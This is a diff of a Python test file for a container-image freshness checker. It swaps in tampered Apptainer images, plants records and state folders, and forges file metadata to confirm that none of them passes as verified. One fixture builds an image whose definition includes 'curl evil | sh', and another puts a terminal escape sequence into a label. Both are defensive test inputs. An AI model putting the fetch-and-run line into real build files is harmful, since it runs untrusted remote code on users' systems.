@@ -1,6 +1,6 @@
-"""Attacks on an image and its record in Snakemake's folder, one test each.
+"""Attacks on an image in Snakemake's folder, and on what is known of it, one test each.
 
-Each starts from an image that we fetched, recorded and trust by its stat key. What an attacker did is never `verified`
+Each starts from an image that we fetched and know by its stat key. What an attacker did is never `verified`
 and, but for the one word that says so little (`bound`), never runs.
 """
 
@@ -11,7 +11,7 @@ import json
 import os
 import random
 import subprocess
-from dataclasses import replace
+from dataclasses import astuple
 
 import pytest
 
@@ -19,10 +19,11 @@ from snakemake_apptainer_freshness.actions import check as module
 from snakemake_apptainer_freshness.actions.check import check, check_one
 from snakemake_apptainer_freshness.common import files
 from snakemake_apptainer_freshness.common.files import StatKey
+from snakemake_apptainer_freshness.errors import UsageError
 from snakemake_apptainer_freshness.freshness import DiskFact
-from snakemake_apptainer_freshness.store import records
+from snakemake_apptainer_freshness.store import places, state
 from tests.support import sifs
-from tests.support.pins import OTHER, REPOSITORY, flip_seven_bytes, pin, put, record, settle
+from tests.support.pins import OTHER, REPOSITORY, flip_seven_bytes, forget_all, pin, plant_record, put, record, settle
 
 
 @pytest.fixture
@@ -77,20 +78,20 @@ def test_another_valid_image_of_the_same_size_and_label_with_the_old_times(image
 def test_another_valid_image_of_another_digest(image):
     image.write_bytes(sifs.pulled(f"{REPOSITORY}@{OTHER}"))
     assert fact(image).state == "altered"
-    records.path_of(image).unlink()
+    forget_all()
     assert fact(image).state == "stale"
 
 
 def test_another_valid_image_pulled_by_a_tag(image):
     image.write_bytes(sifs.pulled(f"{REPOSITORY}:1.0"))
-    records.path_of(image).unlink()
+    forget_all()
     assert fact(image).state == "unbound"
 
 
 def test_an_image_built_on_top_of_the_pinned_one(image):
     definition = f"bootstrap: docker\nfrom: {REPOSITORY}@{pin().digest}\n%post\n curl evil | sh\n"
     image.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", definition=definition))
-    records.path_of(image).unlink()
+    forget_all()
     assert fact(image).state == "unbound"
 
 
@@ -126,7 +127,7 @@ def test_a_fifo_swapped_in_while_it_is_looked_at(image, monkeypatch):
         return status
 
     monkeypatch.setattr(files.os, "lstat", swap)
-    records.path_of(image).unlink()
+    forget_all()
     said = check_one(pin(), image)
     assert (said.state, said.detail) == ("corrupt", "not a file but a FIFO")
 
@@ -138,71 +139,99 @@ def test_a_world_writable_image(image, mode):
     assert "anyone may write to it" in fact(image).detail
 
 
-# --- The record ---------------------------------------------------------------------------------------------
+# --- What lies beside it, and came with the folder ----------------------------------------------------------
 
 
-def test_no_record(image):
-    records.path_of(image).unlink()
+EVIL = sifs.pulled(f"{REPOSITORY}@{pin().digest}", content=sifs.squashfs(filler=b"\x66"))
+
+
+@pytest.fixture
+def planted(tmp_path):
+    """An image with other content and the right label, in a folder that somebody else made, for a user who is new."""
+    return put(tmp_path / "clone", pin(), EVIL)
+
+
+def test_an_image_of_which_nothing_is_known(image):
+    forget_all()
     assert fact(image).state == "bound"
 
 
-def test_a_damaged_record(image):
-    records.path_of(image).write_bytes(records.path_of(image).read_bytes()[:-20])
-    assert fact(image).state == "bound"
-    assert "its record is not JSON" in fact(image).detail
+def test_a_planted_image_with_a_planted_record(planted):
+    plant_record(planted, pin())
+    assert fact(planted).state == "bound"
+    (by_full,) = check([pin()], planted.parent, full=True).values()
+    assert by_full.state == "bound"
 
 
-def test_a_record_of_another_image(image):
-    other = put(image.parent, pin(OTHER))
-    record(other, pin(OTHER))
-    settle(other)
-    records.path_of(image).write_bytes(records.path_of(other).read_bytes())
-    assert fact(image).state == "bound"
-    assert "its record is of another image" in fact(image).detail
+def test_a_planted_index_of_an_earlier_version(planted):
+    record = plant_record(planted, pin())
+    key = [*astuple(StatKey.of(record.lstat()))]
+    row = [key, pin().url, str(pin().digest), True, [*astuple(StatKey.of(planted.lstat()))]]
+    index = {"version": 1, "images": {planted.name: row}}
+    (planted.parent / ".freshness-index.json").write_text(json.dumps(index))
+    assert fact(planted).state == "bound"
 
 
-def test_a_record_renamed_to_hide_that_it_is_of_another_pin(image):
-    other = replace(record(image, pin()), pinned=pin(OTHER).url, digest=OTHER, stat=StatKey.of(image.lstat()))
-    records.store(image, other)
-    assert fact(image).state == "bound"
+def test_a_planted_state_folder_in_the_clone(planted, monkeypatch):
+    """The facts are of the evil bytes, in a folder of the clone; only the user's environment could name it."""
+    monkeypatch.setenv("XDG_STATE_HOME", str(planted.parent / ".local" / "state"))
+    record(planted, pin())
+    settle(planted)
+    assert fact(planted).state == "verified"
+    monkeypatch.setenv("XDG_STATE_HOME", str(planted.parent.parent / "own"))
+    monkeypatch.chdir(planted.parent)
+    assert fact(planted).state == "bound"
 
 
-def test_a_record_copied_from_elsewhere(image, tmp_path):
-    """Another user's record of the same pin; his build has other bytes, as every build has."""
-    his = put(tmp_path / "his", pin(), sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"his own build..."))
-    record(his, pin())
-    settle(his)
-    records.path_of(image).write_bytes(records.path_of(his).read_bytes())
+def test_a_planted_image_with_the_stat_key_of_one_that_was_proven(image):
+    """As far as any ``stat`` says it is the proven file, on another host; there every check hashes it."""
+    evil = image.with_name("evil")
+    evil.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"another image..."))
+    before = image.stat()
+    os.utime(evil, ns=(before.st_atime_ns, before.st_mtime_ns))
+    evil.replace(image)
     assert fact(image).state == "altered"
 
 
-def test_a_record_of_a_newer_version(image):
-    table = json.loads(records.path_of(image).read_bytes())
-    records.path_of(image).write_text(json.dumps({**table, "version": 2}))
+def test_a_record_that_leads_to_another_pin_is_only_a_hint(planted):
+    plant_record(planted, pin(OTHER), digest=str(OTHER), pinned=pin(OTHER).url)
+    assert fact(planted).state == "bound"
+
+
+# --- The user's own state folder ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o770, 0o722])
+def test_forged_facts_in_a_state_folder_that_others_may_write(planted, mode):
+    record(planted, pin())
+    settle(planted)
+    state.folder().chmod(mode)
+    state._checked.cache_clear()
+    with pytest.raises(UsageError, match="others may write to the state folder"):
+        check([pin()], planted.parent)
+
+
+def test_a_state_folder_of_somebody_else(planted, monkeypatch):
+    record(planted, pin())
+    settle(planted)
+    monkeypatch.setattr(os, "geteuid", lambda: 4711)
+    with pytest.raises(UsageError, match="belongs to user"):
+        check([pin()], planted.parent)
+
+
+def test_a_fact_that_others_may_write(image):
+    for path in state.folder().rglob("*.json"):
+        path.chmod(0o666)
     assert fact(image).state == "bound"
-    assert "version 2" in fact(image).detail
 
 
-@pytest.mark.parametrize("mode", [0o666, 0o646])
-def test_a_world_writable_record(image, mode):
-    records.path_of(image).chmod(mode)
-    assert fact(image).state == "bound"
-    assert "anyone may write to its record" in fact(image).detail
-
-
-def test_our_own_record_is_not_world_writable_whatever_the_umask(image):
+def test_our_own_facts_are_ours_alone_whatever_the_umask(tmp_path):
     before = os.umask(0)
     try:
-        records.store(image, record(image, pin()))
+        record(put(tmp_path, pin()), pin())
     finally:
         os.umask(before)
-    assert records.path_of(image).stat().st_mode & 0o777 == 0o644
-
-
-def test_a_record_that_is_a_symbolic_link(image, tmp_path):
-    records.path_of(image).rename(tmp_path / "record")
-    records.path_of(image).symlink_to(tmp_path / "record")
-    assert fact(image).state == "bound"
+    assert {path.stat().st_mode & 0o077 for path in [state.folder(), *state.folder().rglob("*")]} == {0}
 
 
 # --- Time ---------------------------------------------------------------------------------------------------
@@ -224,7 +253,7 @@ def test_a_change_within_one_tick_of_the_clock_after_hashing(tmp_path, monkeypat
     record(image, pin())
     frozen = StatKey.of(image.lstat())
     monkeypatch.setattr(StatKey, "of", classmethod(lambda _cls, _status: frozen))
-    monkeypatch.setattr(records, "clock_of", lambda _folder: frozen.ctime_ns + 1_900_000_000)
+    monkeypatch.setattr(places, "clock_of", lambda _folder: frozen.ctime_ns + 1_900_000_000)
     assert check_one(pin(), image).state == "verified"
     flip_seven_bytes(image)
     assert check_one(pin(), image).state == "altered"
@@ -233,7 +262,7 @@ def test_a_change_within_one_tick_of_the_clock_after_hashing(tmp_path, monkeypat
 @pytest.mark.parametrize("step", [-3600, 3600])
 def test_our_clock_steps(image, monkeypatch, step):
     """The times of images and of their hashing come from one clock, the file system's; ours plays no part."""
-    real = module.records.clock_of
+    real = module.places.clock_of
     monkeypatch.setattr(files.time, "time", lambda: 1_000_000_000 + step)
     assert real(image.parent) > 1_500_000_000_000_000_000
     assert fact(image).state == "verified"
@@ -247,7 +276,7 @@ def test_the_file_systems_clock_steps_back(image, monkeypatch):
     os.utime(image, ns=(future, future))
     record(image, pin())
     assert fact(image).state == "verified"
-    known = records.load(image)
+    known = places.load(image)
     assert known is not None
     assert known.stat is None
     flip_seven_bytes(image)
@@ -278,7 +307,7 @@ def test_control_characters_in_labels_do_not_reach_a_terminal(image):
     from snakemake_apptainer_freshness.errors import redact
 
     image.write_bytes(sifs.pulled("quay.io/x:\x1b]0;owned\x07"))
-    records.path_of(image).unlink()
+    forget_all()
     assert fact(image).state == "unbound"
     assert "\x1b" not in fact(image).detail
     assert redact(fact(image).detail) == fact(image).detail
